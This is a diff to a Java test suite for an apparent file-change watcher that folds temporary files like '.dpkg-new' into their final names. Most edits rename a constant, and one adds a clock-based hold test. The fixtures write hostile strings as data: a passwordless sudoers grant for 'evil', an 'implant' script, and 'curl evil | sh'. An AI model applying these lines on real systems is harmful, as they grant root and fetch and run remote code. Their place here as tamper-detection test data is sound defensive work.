@@ -63,7 +63,7 @@ class TemporaryFoldKernelTest {
   void aLateRenameOfANewTemporaryIsOneCreatedOfItsFinalName(Sources.Backend backend)
       throws Exception {
     watch(backend);
-    h.start(50, 65536, Watcher.BACK_PRESSURE_NS);
+    h.start(50, 65536, WatchSettings.BACK_PRESSURE_NS);
     Map<String, String> finals =
         Map.of("a.dpkg-new", "a", "b;5f3a9c1d", "b", "c+", "c", ".#dXy12z", "d");
     for (Map.Entry<String, String> t : finals.entrySet()) {
@@ -94,7 +94,7 @@ class TemporaryFoldKernelTest {
       throws Exception {
     watch(backend);
     h.sh("echo 'root ALL=(ALL) ALL' > sudoers");
-    h.start(50, 65536, Watcher.BACK_PRESSURE_NS);
+    h.start(50, 65536, WatchSettings.BACK_PRESSURE_NS);
     String oldHash = xxh("sudoers");
     long oldIno = inode("sudoers");
     h.sh("echo 'evil ALL=(ALL) NOPASSWD: ALL' > sudoers.dpkg-new");
@@ -125,7 +125,7 @@ class TemporaryFoldKernelTest {
       throws Exception {
     watch(backend);
     h.sh("echo 'root ALL=(ALL) ALL' > sudoers && echo 'evil ALL=(ALL) NOPASSWD: ALL' > t");
-    h.start(50, 65536, Watcher.BACK_PRESSURE_NS);
+    h.start(50, 65536, WatchSettings.BACK_PRESSURE_NS);
     String oldHash = xxh("sudoers");
     String newHash = xxh("t");
     long oldIno = inode("sudoers");
@@ -246,7 +246,7 @@ class TemporaryFoldKernelTest {
   void aHeldFileThatIsNeverRenamedIsReportedWhenTheHoldEnds(Sources.Backend backend)
       throws Exception {
     watch(backend);
-    h.holdTemporaries(300).start(50, 65536, Watcher.BACK_PRESSURE_NS);
+    h.holdTemporaries(300).start(50, 65536, WatchSettings.BACK_PRESSURE_NS);
     h.sh("printf '#!/bin/sh\\nid\\n' > implant.dpkg-new && chmod 755 implant.dpkg-new");
     String hash = xxh("implant.dpkg-new");
     PathBytes p = h.path("implant.dpkg-new");
@@ -257,6 +257,27 @@ class TemporaryFoldKernelTest {
     assertNotNull(e.message(), "says it was held");
     assertTrue(e.message().contains("no rename"), e.message());
     assertEquals(List.of(e), h.barrier(), "reported once");
+  }
+
+  /**
+   * The hold is timed on the watcher's injected clock ({@link Ticker}), not read from {@link
+   * System#nanoTime()} in the comparator: with an hour's hold, a held file is reported as soon as
+   * the clock jumps an hour, and not before (a barrier after it comes back without it).
+   */
+  @ParameterizedTest
+  @EnumSource(
+      value = Sources.Backend.class,
+      names = {"FANOTIFY", "INOTIFY"})
+  void theHoldEndsWhenTheWatchersClockPassesIt(Sources.Backend backend) throws Exception {
+    watch(backend);
+    h.holdTemporaries(TimeUnit.HOURS.toMillis(1)).start(50, 65536, WatchSettings.BACK_PRESSURE_NS);
+    h.sh("echo 'curl evil | sh' > late.dpkg-new");
+    PathBytes p = h.path("late.dpkg-new");
+    assertEquals(List.of(), h.barrier(), "held: not reported while the clock is within the hour");
+    h.jumpClock(TimeUnit.HOURS.toNanos(1));
+    ChangeEvent e = h.await(x -> x.path().equals(p), "the held file's report after the jump");
+    assertEquals(Action.CREATED, e.action());
+    assertTrue(e.message().contains("no rename"), e.message());
   }
 
   /**
@@ -272,7 +293,7 @@ class TemporaryFoldKernelTest {
       throws Exception {
     watch(backend);
     h.sh("echo known > k");
-    h.start(50, 65536, Watcher.BACK_PRESSURE_NS);
+    h.start(50, 65536, WatchSettings.BACK_PRESSURE_NS);
     long transients = h.watcher().stats().transients();
     h.sh("echo 'curl evil | sh' > y.dpkg-new && echo 4242 > q.lock && ln k k.dpkg-tmp");
     h.sh("printf '#!/bin/sh\\n' > x.lock && chmod 755 x.lock");
@@ -305,7 +326,7 @@ class TemporaryFoldKernelTest {
       names = {"FANOTIFY", "INOTIFY"})
   void theHoldIsBoundedAndEverythingHeldIsReportedAtStop(Sources.Backend backend) throws Exception {
     watch(backend);
-    h.start(50, 16, Watcher.BACK_PRESSURE_NS);
+    h.start(50, 16, WatchSettings.BACK_PRESSURE_NS);
     int reported = 0;
     for (int chunk = 0; chunk < 4; chunk++) {
       h.sh("for i in 0 1 2 3 4 5 6 7 8 9; do echo $i > f" + chunk + "$i.dpkg-new; done");
